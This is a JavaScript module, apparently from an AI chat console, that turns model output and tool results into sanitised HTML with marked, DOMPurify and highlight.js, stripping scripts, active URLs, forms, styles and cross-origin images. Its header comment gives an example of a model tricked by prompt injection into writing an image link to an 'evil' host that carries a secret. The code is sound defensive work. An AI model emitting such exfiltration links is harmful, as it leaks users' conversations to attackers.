// Model output and tool results as sanitised Markdown.
//
// marked turns Markdown into HTML; DOMPurify keeps only inert HTML (no
// script, no event handler, no `javascript:` or other active URL, no SVG
// or MathML, no forms, no styles); images from other origins are replaced
// by a link (the page's CSP would block them anyway: a model tricked into
// writing ![](https://evil/?q=secret) must not send the conversation away).

import { Marked } from './../vendor/marked.js';
import DOMPurify from './../vendor/purify.js';
import hljs from './../vendor/highlight.js';
import bash from './../vendor/languages/bash.js';
import css from './../vendor/languages/css.js';
import go from './../vendor/languages/go.js';
import javascript from './../vendor/languages/javascript.js';
import json from './../vendor/languages/json.js';
import markdown from './../vendor/languages/markdown.js';
import python from './../vendor/languages/python.js';
import rust from './../vendor/languages/rust.js';
import sql from './../vendor/languages/sql.js';
import typescript from './../vendor/languages/typescript.js';
import xml from './../vendor/languages/xml.js';
import yaml from './../vendor/languages/yaml.js';

for (const [name, lang] of Object.entries({ bash, css, go, javascript, json, markdown, python, rust, sql, typescript, xml, yaml })) {
  hljs.registerLanguage(name, lang);
}
hljs.registerAliases(['sh', 'shell', 'zsh'], { languageName: 'bash' });
hljs.registerAliases(['js', 'jsx', 'mjs'], { languageName: 'javascript' });
hljs.registerAliases(['ts', 'tsx'], { languageName: 'typescript' });
hljs.registerAliases(['py'], { languageName: 'python' });
hljs.registerAliases(['rs'], { languageName: 'rust' });
hljs.registerAliases(['html', 'svg'], { languageName: 'xml' });
hljs.registerAliases(['yml'], { languageName: 'yaml' });
hljs.configure({ ignoreUnescapedHTML: true });

const marked = new Marked({ gfm: true, breaks: false, async: false });

const SAFE_URL = /^(?:https?:|mailto:|#|\/(?!\/))/i;

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  // Classes could borrow the console's own styles (a fake dialog over the
  // page): only a code block's language survives.
  if (node.hasAttribute('class')) {
    const lang = node.tagName === 'CODE' && [...node.classList].find((c) => /^language-[\w+-]{1,30}$/.test(c));
    node.removeAttribute('class');
    if (lang) node.setAttribute('class', lang);
  }
  if (node.tagName === 'A') {
    const href = node.getAttribute('href') || '';
    if (!SAFE_URL.test(href.trim())) node.removeAttribute('href');
    node.setAttribute('target', '_blank');
    node.setAttribute('rel', 'noopener noreferrer nofollow');
  }
});
DOMPurify.addHook('uponSanitizeElement', (node, data) => {
  if (data.tagName === 'img') {
    const src = node.getAttribute('src') || '';
    if (!/^data:image\/(png|jpe?g|gif|webp);/i.test(src)) {
      const link = node.ownerDocument.createElement('span');
      link.className = 'blocked-image';
      link.textContent = `[image: ${node.getAttribute('alt') || src}]`;
      node.replaceWith(link);
    }
  }
});

const PURIFY = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'object', 'embed', 'svg', 'math', 'video', 'audio', 'source', 'link', 'meta', 'base'],
  FORBID_ATTR: ['style', 'id', 'name', 'srcset', 'action', 'formaction'],
  ALLOW_DATA_ATTR: false,
};

/** Sanitised HTML of a Markdown text. */
export function renderMarkdown(text) {
  const html = marked.parse(String(text ?? ''));
  return DOMPurify.sanitize(html, PURIFY);
}

/** Highlights the code blocks under `root` (after the HTML is in the page). */
export function highlightWithin(root) {
  for (const block of root.querySelectorAll('pre code')) {
    if (block.dataset.highlighted) continue;
    const lang = [...block.classList].find((c) => c.startsWith('language-'))?.slice(9);
    if (lang && hljs.getLanguage(lang)) {
      block.innerHTML = hljs.highlight(block.textContent, { language: lang, ignoreIllegals: true }).value;
    } else if (block.textContent.length < 20000) {
      block.innerHTML = hljs.highlightAuto(block.textContent).value;
    }
    block.classList.add('hljs');
  }
}
